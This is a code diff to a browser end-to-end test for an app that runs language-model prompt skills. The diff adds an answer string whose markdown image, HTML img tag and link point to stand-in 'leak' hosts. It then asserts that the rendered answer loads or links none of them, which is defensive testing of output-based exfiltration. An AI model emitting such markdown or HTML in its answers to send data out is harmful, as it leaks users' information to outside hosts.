@@ -18,6 +18,10 @@ skills:
     depends_on: [write-notes]
 `;
 
+/** What an answer could try to send something out by: markdown and HTML that a page would load or lead to. */
+const luring =
+  'The office is at pier 4. ![map](http://127.0.0.1:9/leak?pier) <img src="http://127.0.0.1:9/leak"> [more](https://leak.example)';
+
 test.use({ files: { 'notes.lens': lens } });
 
 test('without a key: look at the prompt, carry it out by hand, paste the answer, decline another', async ({
@@ -25,6 +29,8 @@ test('without a key: look at the prompt, carry it out by hand, paste the answer,
 }) => {
   await mkdir(home, { recursive: true });
   await writeFile(join(home, 'config.yaml'), 'models:\n  me: { provider: manual }\ndefault_model: me\n');
+  const asked: string[] = [];
+  page.on('request', (request) => asked.push(request.url()));
   await page.getByRole('treeitem', { name: 'Harbor notes' }).click();
   await expect(runButton(page)).toHaveText('Run 2', { timeout: 15_000 });
 
@@ -47,12 +53,14 @@ test('without a key: look at the prompt, carry it out by hand, paste the answer,
   await expectAccessible(page);
   await dialog.getByRole('button', { name: 'Later' }).click();
   await page.getByRole('button', { name: 'Answer…' }).click();
-  await dialog.getByRole('textbox', { name: 'Answer' }).fill('The office is at pier 4.');
+  await dialog.getByRole('textbox', { name: 'Answer' }).fill(luring);
   await dialog.getByRole('button', { name: 'Use this answer' }).click();
 
   const second = page.getByRole('dialog', { name: 'Answer for second-notes' });
   await second.getByRole('button', { name: 'Decline' }).click();
   await page.getByRole('tablist', { name: 'Panel' }).getByRole('tab', { name: 'Run' }).click();
-  await expect(page.getByRole('tabpanel')).toContainText('The office is at pier 4.', { timeout: 15_000 });
+  await expect(page.getByRole('tabpanel')).toContainText(luring, { timeout: 15_000 });
+  await expect(page.locator('img[src*="leak"], a[href*="leak"]')).toHaveCount(0);
+  expect(asked.filter((address) => address.includes('leak'))).toEqual([]);
   await expect(page.getByRole('tabpanel')).toContainText(/failed/);
 });
